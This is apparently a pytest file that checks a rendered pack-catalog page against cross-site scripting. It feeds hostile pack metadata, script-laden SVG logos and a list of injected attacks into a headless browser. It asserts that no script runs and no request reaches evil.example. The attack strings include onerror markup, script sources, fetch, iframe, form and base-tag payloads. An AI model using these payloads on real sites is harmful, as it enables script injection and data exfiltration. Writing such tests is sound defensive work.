"""Packs that try to run a script, to send a request or to deceive the reader."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from packs.catalog.model import Catalog, described, grouped
from packs.catalog.page import render
from packs.catalog.text import lines, one_line
from tests.support.catalog import HOSTILE, pack_files, png
from tests.support.chromium import Chromium

SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>hacked=1</script><image href='https://evil.example/x.png'/></svg>"
LOGOS = (SVG, png() + SVG, png(2, 2, (b"tEXt", b"Comment\0" + SVG)), b"GIF89a" + SVG)
HARMLESS = "typeof hacked === 'undefined' && document.getElementById('hacked') === null"


def hostile(number: int, text: str) -> Any:
    """Return a pack that has a text in every place."""
    texts = ("name", "displayName", "version", "layer", "addonType", "readme", "group", text)
    facts: dict[str, Any] = dict.fromkeys(texts, text)
    facts |= {"cloudTypes": [text, text + "2"], "annotations": {"description": text, text: text}}
    files = pack_files(**facts) | {
        "README.md": text.encode("utf-8", "surrogatepass"),
        "values.yaml": f"key: {text}\n".encode("utf-8", "surrogatepass"),
        "logo.png": LOGOS[number % len(LOGOS)],
    }
    name = one_line(text)
    return described(files, name=name, version=name, reference=f"{name}:{name}", pushed=text)


def write(file: Path) -> list[Any]:
    entries = [hostile(number, text) for number, text in enumerate(HOSTILE)]
    source = "".join(HOSTILE)
    file.write_text(render(Catalog(source, "</script>", grouped(entries))), encoding="ascii")
    return entries


def test_there_are_enough_texts() -> None:
    assert len(HOSTILE) == len(set(HOSTILE)) > 50


def test_hostile_packs_run_nothing(browser: Chromium, file: Path) -> None:
    entries = write(file)
    browser.open(file.as_uri())
    browser.wait_until("performance.getEntriesByName('complete').length === 1")
    assert browser.run("document.querySelectorAll('.card').length") == len(
        {entry.name for entry in entries}
    )
    for entry, text in zip(entries, HOSTILE, strict=True):
        name = json.dumps(entry.name)
        browser.run(f"location.hash = new URLSearchParams({{pack: {name}}})")
        browser.wait_until(f"dialog.open && shown.pack.name === {name}")
        shown = browser.run("[byId('details-title').textContent, byId('file').innerText]")
        assert shown[0] == one_line(text) or entry.name
        assert browser.run("byId('file').querySelector('pre').textContent") == lines(
            text.encode("utf-8", "surrogatepass")
        )
        browser.click("#tab-1")
        assert browser.run("byId('file').querySelector('pre').textContent") == lines(
            f"key: {text}\n".encode("utf-8", "surrogatepass")
        )
        browser.press("Escape")
        browser.wait_until("!dialog.open")
        browser.run(f"query.value = {json.dumps(text)}; update()")
    browser.run("reset()")
    browser.press("Tab", "Tab", "Tab")
    assert browser.run(HARMLESS)
    assert browser.requests() == []
    assert browser.complaints() == []


def test_hostile_packs_add_no_elements(browser: Chromium, file: Path) -> None:
    write(file)
    browser.open(file.as_uri())
    tags = browser.run(
        "[...new Set([...document.body.querySelectorAll('*')].map((e) => e.localName))]"
    )
    assert set(tags) <= {
        *("a", "header", "h1", "h2", "p", "div", "label", "input", "kbd", "fieldset", "legend"),
        *("span", "select", "option", "main", "ul", "li", "button", "dialog", "noscript", "script"),
        "img",
    }
    attributes = browser.run(
        "[...document.body.querySelectorAll('*')].flatMap((each) => each.getAttributeNames())"
    )
    assert not [name for name in attributes if name.startswith("on") or name == "style"]
    addresses = browser.run("[...document.querySelectorAll('[href]')].map((e) => e.protocol)")
    assert set(addresses) <= {"file:", None}


def test_without_scripts_hostile_packs_are_text(browser: Chromium, file: Path) -> None:
    write(file)
    browser.open_without_scripts(file.as_uri())
    tags = browser.run(
        "[...new Set([...document.querySelectorAll('noscript *')].map((e) => e.localName))]"
    )
    assert set(tags) == {"p", "h2", "bdi", "ul", "li", "code"}
    assert browser.requests() == []


ADD = """
const add = (tag, properties) => {
  const added = Object.assign(document.createElement(tag), properties);
  document.body.append(added);
  return added;
};
"""
ATTACKS = {
    "markup": "document.body.innerHTML = '<img src=x onerror=hacked=1>'",
    "script": "add('script', {text: 'hacked=1'})",
    "source": "add('script', {src: 'https://evil.example/x.js'})",
    "handler": "document.body.setAttribute('onclick', 'hacked=1'); document.body.click()",
    "evaluation": "setTimeout('hacked=1')",
    "request": "fetch('https://evil.example/')",
    "image": "new Image().src = 'https://evil.example/x.png'",
    "frame": "add('iframe', {src: 'https://evil.example/'})",
    "style": "document.body.setAttribute('style', 'background: url(https://evil.example/x.png)')",
    "base": "add('base', {href: 'https://evil.example/'})",
    "form": "add('form', {action: 'https://evil.example/'}).submit()",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_policy_is_second_defense(browser: Chromium, file: Path, attack: str) -> None:
    """Even a script that made markup of a text would run and request nothing."""
    write(file)
    browser.open(file.as_uri())
    code = f"(() => {{ {ADD} try {{ {attack} }} catch {{}} }})()"
    browser.run(f"{code}, new Promise((resolve) => setTimeout(resolve, 100))")
    assert browser.run(HARMLESS)
    assert browser.requests() == []
    assert browser.run("violations.length") > 0


def test_watch_sees_what_runs(browser: Chromium, file: Path) -> None:
    """Without the defenses, the tests above would fail."""
    body = "".join(HOSTILE[:3]) + "<img src=https://evil.example/x.png><script>alert(1)</script>"
    file.write_text(f"<!doctype html><script></script>{body}", encoding="utf-8")
    browser.open(file.as_uri())
    assert not browser.run(HARMLESS)
    assert browser.requests() == ["https://evil.example/x.png"]
    assert any("javascriptDialogOpening" in complaint for complaint in browser.complaints())
